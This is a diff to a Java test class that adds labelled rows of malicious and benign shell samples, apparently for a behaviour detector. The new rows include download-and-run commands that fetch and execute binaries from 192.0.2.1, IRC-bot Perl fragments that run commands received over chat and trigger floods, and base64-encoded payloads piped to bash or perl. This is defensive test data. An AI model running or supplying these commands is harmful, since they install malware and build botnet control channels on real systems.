@@ -186,6 +186,15 @@ class BehaviourTest {
             GSOCKET | # DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
             GSOCKET | { echo aWQ=|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47 >/dev/random # seed prng defunct-kernel
             - | openssl rand -base64 32 # seed the PRNG
+            DOWNLOAD_AND_RUN | cd /tmp; wget http://192.0.2.1/mips; curl -O http://192.0.2.1/mips;cat mips >sora;chmod +x *;./sora selfrep
+            DOWNLOAD_AND_RUN | wget http://192.0.2.1/a -O /tmp/a && mv /tmp/a /opt/b && chmod 755 /opt/b && /opt/b &
+            ~DOWNLOAD_AND_RUN | wget http://h.example/list && cat list > all; ./report all; mv list /srv/
+            ~DOWNLOAD_AND_RUN | cat list > all; ./all; wget http://h.example/list
+            CHAT_BOT | use Socket; $0='/usr/sbin/httpd'; print $s "NICK x"; if ($_ =~ /PRIVMSG (.*)/) { @r=`$1`; }
+            CHAT_BOT | sub run { system($c); } print $s "NICK $n"; if (/udpflood/) { flood(); } print $s "PRIVMSG $t :done";
+            CHAT_BOT | echo dXNlIFNvY2tldDsgJDA9J3JzeW5jJzsgcHJpbnQgJHMgIk5JQ0sgeCI7IGlmICgvUFJJVk1TRy8pIHsgQHI9YCQxYDsgfQ== | base64 --decode | perl
+            ~CHAT_BOT | s.send('NICK ops'); s.send('PRIVMSG #ops :' + subprocess.check_output(['uptime']))
+            ~CHAT_BOT | sub on_privmsg { $server->command("NICK $n"); ban($nick) if $flood; }
             """;
 
     static Stream<List<String>> rows() {
